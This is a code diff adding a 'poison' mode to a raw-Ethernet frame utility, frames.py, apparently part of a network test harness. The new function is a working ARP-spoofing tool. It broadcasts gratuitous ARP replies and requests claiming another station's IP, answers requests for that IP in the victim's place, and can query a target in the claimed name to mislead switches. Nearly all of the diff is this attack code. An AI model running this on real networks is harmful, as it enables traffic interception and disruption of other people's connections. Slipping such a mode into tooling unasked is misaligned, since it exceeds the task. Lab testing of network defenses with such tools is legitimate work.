@@ -4,6 +4,7 @@
   frames.py send IFACE COUNT [--src MAC] [--dst MAC] [--size N] [--tag TAG] [--vlan VID]
   frames.py recv IFACE COUNT [--timeout S] [--tag TAG]
   frames.py sniff IFACE 0 [--timeout S]
+  frames.py poison IFACE 0 --claim IP [--ask IP] [--src MAC] [--timeout S]
 
 Frames carry ethertype 0x88b5 (IEEE local experimental), a 4-byte tag, a 4-byte
 sequence number and a payload derived from both, so a receiver can tell every frame
@@ -79,9 +80,48 @@ def sniff(args):
         print(data[:256].hex(), flush=True)
 
 
+def poison(args):
+    """ARP in the name of another station: unasked replies and requests claiming
+    `claim` at our MAC, several a second, and a reply to every request for it."""
+    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0806))
+    s.bind((args.iface, 0))
+    s.settimeout(0.05)
+    me = mac(args.src)
+    claim = socket.inet_aton(args.claim)
+
+    def arp(op, dst_mac, target_mac, target_ip):
+        return (dst_mac + me + b"\x08\x06" + b"\x00\x01\x08\x00\x06\x04" + op.to_bytes(2, "big")
+                + me + claim + target_mac + target_ip).ljust(60, b"\x00")
+
+    print("ready", flush=True)
+    deadline = time.time() + args.timeout
+    sent = 0
+    while time.time() < deadline:
+        s.send(arp(2, b"\xff" * 6, b"\x00" * 6, claim))            # gratuitous reply
+        s.send(arp(1, b"\xff" * 6, b"\x00" * 6, claim))            # gratuitous request
+        sent += 2
+        if args.ask:
+            # Asking the victim in the claimed name: a switch that learns from
+            # requests takes the lie for the claimed station.
+            s.send(arp(1, b"\xff" * 6, b"\x00" * 6, socket.inet_aton(args.ask)))
+            sent += 1
+        try:
+            data, addr = s.recvfrom(65535)
+        except socket.timeout:
+            continue
+        if addr[2] == socket.PACKET_OUTGOING or len(data) < 42:
+            continue
+        if data[20:22] == b"\x00\x01" and data[38:42] == claim:
+            s.send(arp(2, data[6:12], data[22:28], data[28:32]))   # answer for the victim
+            sent += 1
+    print(f"sent {sent}", flush=True)
+
+
 def main():
     p = argparse.ArgumentParser()
-    p.add_argument("mode", choices=["send", "recv", "sniff"])
+    p.add_argument("mode", choices=["send", "recv", "sniff", "poison"])
+    p.add_argument("--claim", default="0.0.0.0", help="poison: the IP to claim")
+    p.add_argument("--ask", default=None, help="poison: also ask this IP in the claimed name")
     p.add_argument("iface")
     p.add_argument("count", type=int)
     p.add_argument("--src", default="02:00:00:00:0a:01")
@@ -92,7 +132,7 @@ def main():
     p.add_argument("--vlan", type=int, default=None, help="send 802.1Q-tagged with this VID")
     p.add_argument("--timeout", type=float, default=10.0)
     args = p.parse_args()
-    {"send": send, "recv": recv, "sniff": sniff}[args.mode](args)
+    {"send": send, "recv": recv, "sniff": sniff, "poison": poison}[args.mode](args)
 
 
 if __name__ == "__main__":
